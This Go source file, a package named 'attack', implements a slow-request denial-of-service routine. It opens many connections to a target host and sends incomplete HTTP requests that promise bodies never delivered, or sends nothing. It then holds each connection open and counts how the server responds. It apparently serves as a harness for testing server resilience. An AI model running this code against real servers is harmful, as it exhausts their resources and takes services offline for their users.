package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"time"
)

// Target is whom it goes against, and from which address.
type Target struct {
	Addr string      // host:port
	TLS  *tls.Config // nil: in the clear
	From netip.Addr  // one of this machine's; none: whichever
}

func (t Target) dial(ctx context.Context, protocols ...string) (net.Conn, error) {
	var dialer net.Dialer
	if t.From.IsValid() {
		dialer.LocalAddr = net.TCPAddrFromAddrPort(netip.AddrPortFrom(t.From, 0))
	}
	conn, err := dialer.DialContext(ctx, "tcp", t.Addr)
	if err != nil || t.TLS == nil {
		return conn, err
	}
	config := t.TLS.Clone()
	config.NextProtos = protocols
	secure := tls.Client(conn, config)
	if err := secure.HandshakeContext(ctx); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	return secure, nil
}

// Held is what became of requests that were opened and not ended.
type Held struct {
	mu       sync.Mutex
	Statuses map[int]int
	Closed   int // without an answer
	Refused  int // not even a connection
}

func (h *Held) add(status int, err error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	switch {
	case err != nil && status == 0:
		h.Refused++
	case status == 0:
		h.Closed++
	default:
		h.Statuses[status]++
	}
}

// Hold opens n connections, sends the same on each, and then nothing more: until the server ends it, or ctx does.
func (t Target) Hold(ctx context.Context, n int, opening string) *Held {
	held := &Held{Statuses: map[int]int{}}
	var all sync.WaitGroup
	dialing := make(chan struct{}, 32)
	for range n {
		all.Go(func() {
			dialing <- struct{}{}
			conn, err := t.dial(ctx)
			<-dialing
			if err != nil {
				held.add(0, err)
				return
			}
			held.add(t.hold(ctx, conn, opening), nil)
		})
	}
	all.Wait()
	return held
}

func (t Target) hold(ctx context.Context, conn net.Conn, opening string) (status int) {
	defer context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Unix(1, 0)) })()
	defer func() { _ = conn.Close() }()
	if _, err := io.WriteString(conn, opening); err != nil {
		return 0
	}
	reader := bufio.NewReader(conn)
	response, err := http.ReadResponse(reader, nil)
	if err != nil {
		return 0
	}
	_, _ = io.Copy(io.Discard, reader) // until the server ends it
	_ = response.Body.Close()
	return response.StatusCode
}

// TooLong is a request that announces more than is taken, and sends none of it.
func TooLong(path string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 2000000\r\n\r\n", path)
}

// Trickled is a request of somebody with a token, whose body does not come.
func Trickled(path, token string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: %s\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{", path, token)
}

// Silent says nothing at all.
const Silent = ""
